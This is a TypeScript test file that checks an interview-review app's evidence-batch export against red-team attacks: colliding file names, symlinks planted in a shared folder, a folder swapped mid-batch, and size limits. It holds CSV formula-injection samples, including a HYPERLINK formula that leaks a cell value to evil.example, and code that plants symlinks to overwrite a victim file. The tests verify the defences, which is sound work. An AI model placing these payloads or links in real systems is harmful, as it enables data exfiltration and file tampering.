import {
  existsSync,
  lstatSync,
  mkdirSync,
  mkdtempSync,
  readdirSync,
  readFileSync,
  renameSync,
  rmSync,
  symlinkSync,
  writeFileSync,
} from 'node:fs';
import { tmpdir } from 'node:os';
import { basename, join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { EvidenceBatchView } from '../../../common/ipc/evidence';
import type { AuditEntry } from '../../../common/views';
import type { AppContextHandle } from '../../../main/app-context';
import type { FileService } from '../../../main/ports';
import { evidenceService } from '../../../main/evidence/service';
import { readZip } from '../../../main/evidence/zip';
import { reviewService } from '../../../main/review/service';
import { startTestApp } from '../../helpers/app-context';

/**
 * Red team 12, findings 2, 4, 5 and 6, against the batch (and the one-file export for 6): interviews whose file names
 * folded alike, formula-like ids in index.csv, a folder and index planted ahead of the batch or swapped during a pause,
 * and the trail saying a file left when none was written.
 */
let app: AppContextHandle;
let dir: string;
let shared: string;
let save: FileService['save'] = async () => null;

beforeAll(async () => {
  dir = mkdtempSync(join(tmpdir(), 'omni-evidence-attacks-'));
  // A place other users can write to, as a shared drive is.
  shared = join(dir, 'shared-evidence');
  mkdirSync(shared, { mode: 0o1777 });
  process.env.OMNI_REVIEWER_EVIDENCE_DIR = shared;
  app = await startTestApp(join(dir, 'data'), { files: { save: (opts) => save(opts) } });
}, 60_000);

afterAll(async () => {
  delete process.env.OMNI_REVIEWER_EVIDENCE_DIR;
  await app?.close();
  rmSync(dir, { recursive: true, force: true });
});

const decide = (interviewId: string, decidedAt: string) =>
  app.context.record.decisions.add(interviewId, {
    decision: 'approve',
    reason: 'ok',
    acknowledgedFindings: [],
    decidedAt,
    environment: app.context.environments.active().id,
    status: 'final',
  });

const batches = () => evidenceService(app.context).batches;

async function until(jobId: string, states: EvidenceBatchView['state'][]): Promise<EvidenceBatchView> {
  for (;;) {
    const view = batches().status(jobId);
    if (states.includes(view.state)) return view;
    await new Promise((r) => setTimeout(r, 20));
  }
}

/** index.csv's rows, its quoted cells read as a spreadsheet reads them. */
function indexRows(folder: string): string[][] {
  const text = readFileSync(join(folder, 'index.csv'), 'utf8');
  const rows: string[][] = [];
  let row: string[] = [];
  let cell = '';
  for (let i = 0, quoted = false; i < text.length; i++) {
    const c = text[i]!;
    if (quoted && c === '"' && text[i + 1] === '"') {
      cell += '"';
      i++;
    } else if (c === '"') quoted = !quoted;
    else if (quoted) cell += c;
    else if (c === ',' || c === '\n') {
      row.push(cell);
      cell = '';
      if (c === '\n') {
        rows.push(row);
        row = [];
      }
    } else cell += c;
  }
  return rows.slice(1);
}

/** The interview's evidence exports in a period, each with what the trail says followed it. */
async function exportsOf(interviewId: string, periodFrom: string) {
  const entries = await app.context.audit.list({ interviewId });
  const after = (e: AuditEntry, what: string) =>
    entries.find((x) => x.detail.what === what && x.detail.exportEntry === e.seq);
  return entries
    .filter((e) => e.detail.what === 'evidenceFile' && e.detail.periodFrom === periodFrom)
    .map((e) => ({ manifest: after(e, 'evidenceManifest'), notWritten: after(e, 'evidenceNotWritten') }));
}

describe('the batch against odd ids and a shared folder', () => {
  it('gives interviews whose ids fold alike files of their own: none overwritten, each row its own file', async () => {
    const long = 'L'.repeat(80);
    const ids = ['case:7', 'case_7', `${long}-first`, `${long}-second`];
    for (const id of ids) await decide(id, '2026-10-02T10:00:00.000Z');
    const started = batches().start({ from: '2026-10-02', to: '2026-10-02', language: 'en', purpose: 'Collisions' });
    const done = await until(started.jobId, ['done', 'failed']);
    expect(done).toMatchObject({ state: 'done', done: 4, failed: 0 });
    const zips = readdirSync(done.folder).filter((f) => f.endsWith('.zip'));
    expect(zips).toHaveLength(4);
    const rows = indexRows(done.folder);
    expect(rows.map((r) => r[0]).sort()).toEqual([...ids].sort());
    for (const [id, , file, manifest, outcome] of rows) {
      expect(outcome).toBe('written');
      const parts = readZip(readFileSync(join(done.folder, file!)));
      const info = JSON.parse(Buffer.from(parts.find((p) => p.path === 'export.json')!.data).toString('utf8'));
      expect(info.interviewId).toBe(id);
      const recorded = (await exportsOf(id!, '2026-10-02'))[0]?.manifest;
      expect(recorded?.detail.sha256).toBe(manifest);
    }
  }, 120_000);

  it('lists formula-like interview ids in index.csv as text, never as formulas, and exports none of them', async () => {
    // The team database takes such ids no more (migration 0014), but keeps the rows written before it: they are read
    // back here as such a database answers them. No file or trail entry is made for an id the app does not take.
    const ids = ['=HYPERLINK("https://evil.example/?"&A1,"open")', '@SUM(1+1)*cmd', '+1+2', '-3+4'];
    const stored = ids.map((_, i) => `formula-${i}`);
    for (const id of stored) await decide(id, '2026-10-03T10:00:00.000Z');
    const odd = new Map(stored.map((id, i) => [id, ids[i]!]));
    const back = new Map(stored.map((id, i) => [ids[i]!, id]));
    const decisions = app.context.record.decisions;
    const decidedBetween = decisions.decidedBetween.bind(decisions);
    decisions.decidedBetween = async (environment, from, to, limit, after) =>
      (
        await decidedBetween(
          environment,
          from,
          to,
          limit,
          after && { ...after, interviewId: back.get(after.interviewId) ?? after.interviewId },
        )
      ).map((row) => ({ ...row, interviewId: odd.get(row.interviewId) ?? row.interviewId }));
    let done: EvidenceBatchView;
    try {
      const started = batches().start({ from: '2026-10-03', to: '2026-10-03', language: 'en', purpose: 'Formulas' });
      done = await until(started.jobId, ['done', 'failed']);
    } finally {
      decisions.decidedBetween = decidedBetween;
    }
    expect(done).toMatchObject({ state: 'done', done: ids.length, failed: ids.length });
    const rows = indexRows(done.folder);
    expect(rows.map((r) => r[0]).sort()).toEqual(ids.map((id) => `'${id}`).sort());
    expect(rows.map((r) => r[4])).toEqual(ids.map(() => 'failed'));
    for (const cell of rows.flat()) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
  }, 120_000);

  it('makes its folder new, for this user alone: a folder and index planted ahead of it are not used', async () => {
    await decide('planted-1', '2026-10-06T10:00:00.000Z');
    const victim = join(dir, 'analyst-notes.txt');
    writeFileSync(victim, 'the analyst’s own notes\n');
    // Another user makes the folders the next seconds' batches would use, each with index.csv a link to that file.
    const planted: string[] = [];
    for (let s = 0; s < 5; s++) {
      const stamp = new Date(Date.now() + s * 1000).toISOString().slice(0, 19).replace(/[:T]/g, '-');
      const folder = join(shared, `evidence-2026-10-06-to-2026-10-06-${stamp}`);
      mkdirSync(folder, { mode: 0o777 });
      symlinkSync(victim, join(folder, 'index.csv'));
      planted.push(folder);
    }
    const started = batches().start({ from: '2026-10-06', to: '2026-10-06', language: 'en', purpose: 'Planted' });
    const done = await until(started.jobId, ['done', 'failed']);
    expect(done).toMatchObject({ state: 'done', done: 1, failed: 0 });
    expect(planted).not.toContain(done.folder);
    expect(basename(done.folder)).toMatch(/^evidence-2026-10-06-to-2026-10-06-[\d-]{19}-[0-9a-f]{12}$/);
    expect(lstatSync(done.folder).mode & 0o777).toBe(0o700);
    expect(lstatSync(join(done.folder, 'index.csv')).isFile()).toBe(true);
    expect(readFileSync(victim, 'utf8')).toBe('the analyst’s own notes\n');
    expect(readdirSync(done.folder).filter((f) => f.endsWith('.part'))).toEqual([]);
  }, 120_000);

  it('stops when its folder was swapped for a link during a pause: nothing written through it', async () => {
    for (let i = 0; i < 30; i++) await decide(`q-${String(i).padStart(2, '0')}`, '2026-10-04T10:00:00.000Z');
    const started = batches().start({ from: '2026-10-04', to: '2026-10-04', language: 'en', purpose: 'Swapped' });
    await until(started.jobId, ['running']);
    batches().pause(started.jobId);
    const paused = await until(started.jobId, ['paused']);
    const movedAway = join(dir, 'moved-away');
    renameSync(paused.folder, movedAway);
    const elsewhere = join(dir, 'someone-elses-folder');
    mkdirSync(elsewhere);
    symlinkSync(elsewhere, paused.folder);
    batches().resume(started.jobId);
    const stopped = await until(started.jobId, ['done', 'failed']);
    expect(stopped.state).toBe('failed');
    expect(stopped.error?.message.en).toMatch(/folder was moved, removed or replaced/);
    expect(stopped.error?.message.es).toMatch(/carpeta del lote se movió/);
    expect(readdirSync(elsewhere)).toEqual([]);
    expect(indexRows(movedAway)).toHaveLength(stopped.done);
    // Every export of the batch is either a file in the folder it was made in, or said not written.
    const written = new Set(readdirSync(movedAway));
    for (let i = 0; i < 30; i++)
      for (const e of await exportsOf(`q-${String(i).padStart(2, '0')}`, '2026-10-04')) {
        const file = indexRows(movedAway).find((r) => r[3] === e.manifest?.detail.sha256)?.[2];
        expect(e.notWritten !== undefined || (file !== undefined && written.has(file))).toBe(true);
      }
  }, 120_000);

  it('says on the trail that no file was written when its folder is removed during a pause', async () => {
    const ids = Array.from({ length: 30 }, (_, i) => `r-${String(i).padStart(2, '0')}`);
    for (const id of ids) await decide(id, '2026-10-05T10:00:00.000Z');
    const started = batches().start({ from: '2026-10-05', to: '2026-10-05', language: 'en', purpose: 'Removed' });
    await until(started.jobId, ['running']);
    batches().pause(started.jobId);
    const paused = await until(started.jobId, ['paused']);
    rmSync(paused.folder, { recursive: true });
    batches().resume(started.jobId);
    const stopped = await until(started.jobId, ['done', 'failed']);
    expect(stopped.state).toBe('failed');
    expect(existsSync(paused.folder)).toBe(false);
    let said = 0;
    for (const id of ids)
      for (const e of await exportsOf(id, '2026-10-05')) {
        // No file exists: each export, its manifest recorded or not, is followed by "not written".
        expect(e.notWritten, id).toBeDefined();
        said++;
      }
    expect(said).toBeGreaterThan(0);
  }, 120_000);
});

describe('one interview’s file that does not leave', () => {
  it('says on the trail when the save is cancelled, or fails, after the manifest was recorded', async () => {
    const ID = 'demo-clean-pass';
    await reviewService(app.context).addDemoSeeds([ID]);
    const service = evidenceService(app.context);
    const lastThree = async () => (await app.context.audit.list({ interviewId: ID })).slice(-3);

    save = async () => null;
    expect(await service.exportFile({ interviewId: ID, language: 'en', purpose: 'Cancelled' })).toBeNull();
    const [exported, manifest, notWritten] = await lastThree();
    expect(exported!.detail).toMatchObject({ what: 'evidenceFile', purpose: 'Cancelled' });
    expect(manifest!.detail).toMatchObject({ what: 'evidenceManifest', exportEntry: exported!.seq });
    expect(notWritten).toMatchObject({
      action: 'downloaded',
      detail: { what: 'evidenceNotWritten', exportEntry: exported!.seq, reason: 'cancelled' },
    });

    save = async () => {
      throw new Error('disk full');
    };
    await expect(service.exportFile({ interviewId: ID, language: 'en', purpose: 'Failed' })).rejects.toThrow();
    const [failedExport, , failed] = await lastThree();
    expect(failedExport!.detail).toMatchObject({ what: 'evidenceFile', purpose: 'Failed' });
    expect(failed!.detail).toMatchObject({
      what: 'evidenceNotWritten',
      exportEntry: failedExport!.seq,
      error: expect.any(String),
    });

    save = async ({ suggestedName }) => ({ savedTo: join(dir, suggestedName) });
    await service.exportFile({ interviewId: ID, language: 'en', purpose: 'Saved' });
    expect((await lastThree()).slice(1).map((e) => e.detail.what)).toEqual(['evidenceFile', 'evidenceManifest']);
  }, 120_000);
});

describe('one interview’s record past what a file carries', () => {
  it('is refused, named and sized, before the trail is read, and the trail says the file was not written (red team 16)', async () => {
    const ID = 'demo-clean-pass-crowded';
    await reviewService(app.context).addDemoSeeds(['demo-clean-pass']);
    // A login's entries on one interview: 270 of 250 KB (2,000 of 256 KiB took the exporter's main to 1.3 GB).
    for (let i = 0; i < 270; i++)
      await app.context.audit.append({ interviewId: ID, action: 'opened', detail: { what: 'x'.repeat(250_000) } });
    save = async ({ suggestedName }) => ({ savedTo: join(dir, suggestedName) });
    await expect(
      evidenceService(app.context).exportFile({ interviewId: ID, language: 'es', purpose: 'Crowded' }),
    ).rejects.toMatchObject({ code: 'EVIDENCE_RECORD_TOO_LARGE', message: expect.stringContaining('65 MB') });
    const last = (await app.context.audit.list({ interviewId: ID })).at(-1);
    expect(last?.detail).toMatchObject({ what: 'evidenceNotWritten', error: expect.stringContaining('64 MB') });
  }, 120_000);

  it('counts what each entry and write costs held, whatever its texts (red team 18: 2,000,000 small entries passed as 32 MB)', async () => {
    const ID = 'demo-clean-pass-small';
    const env = app.context.environments.active().id;
    for (let i = 0; i < 3; i++) await app.context.audit.append({ interviewId: ID, action: 'opened', detail: {} });
    for (let i = 0; i < 2; i++) await app.context.record.writes.begin(env, ID, 'notes', 'ok');
    expect(await app.context.audit.interviewBytes(ID)).toBeGreaterThanOrEqual(3 * 1024);
    expect(await app.context.record.writes.writeBytes(env, ID)).toBeGreaterThanOrEqual(2 * 1024);
  });

  it('counts the writes to the service it would carry, their texts with the answers (red team 17)', async () => {
    const ID = 'demo-clean-pass-written';
    await reviewService(app.context).addDemoSeeds(['demo-clean-pass']);
    // 2,100 notes of 32,000 characters, none answered: 8,000 such writes took the exporter's main to 1.2 GB.
    const env = app.context.environments.active().id;
    for (let i = 0; i < 2_100; i++)
      await app.context.record.writes.begin(env, ID, 'notes', `${i} ${'n'.repeat(32_000)}`);
    save = async ({ suggestedName }) => ({ savedTo: join(dir, suggestedName) });
    await expect(
      evidenceService(app.context).exportFile({ interviewId: ID, language: 'en', purpose: 'Written' }),
    ).rejects.toMatchObject({ code: 'EVIDENCE_RECORD_TOO_LARGE' });
  }, 120_000);
});

describe('a contract whose link the app cannot open (red team 18)', () => {
  it('is named in the file as unavailable, the readable ones carried, never left out as if there were none', async () => {
    const ID = 'demo-contracts-many';
    await reviewService(app.context).addDemoSeeds([ID]);
    const links = {
      success: true,
      sessionStatus: 'Alive',
      additionalInformation: {
        'demo-contracts-many-credito': 'https://files.example/credito.pdf',
        'doc-b': 'ftp://files.example/b.pdf',
      },
    };
    const faults = await fetch(`${app.demoUrl()}/__demo/faults`, {
      method: 'POST',
      headers: { 'content-type': 'application/json' },
      body: JSON.stringify({ route: 'getContractLinks', kind: 'json', status: 200, body: links, times: 5 }),
    });
    expect(faults.ok).toBe(true);
    let savedTo = '';
    save = async ({ suggestedName, data }) => {
      writeFileSync((savedTo = join(dir, suggestedName)), data);
      return { savedTo };
    };
    await evidenceService(app.context).exportFile({ interviewId: ID, language: 'en', purpose: 'Odd links' });
    const parts = readZip(readFileSync(savedTo));
    const info = JSON.parse(Buffer.from(parts.find((p) => p.path === 'export.json')!.data).toString('utf8'));
    expect(info.contracts).toEqual(['demo-contracts-many-credito']);
    expect(parts.some((p) => /^contracts\/.*credito.*\.tst$/.test(p.path))).toBe(true);
    expect(info.contractsUnavailable.en).toContain('doc-b');
    // And the app's own check takes the file as it is: one contract carried, and verified.
    const verdict = await evidenceService(app.context).verifyFile({
      name: 'partial.zip',
      base64: readFileSync(savedTo).toString('base64'),
    });
    expect(verdict).toMatchObject({ failedParts: [], counts: { contracts: 1 } });
  }, 120_000);
});
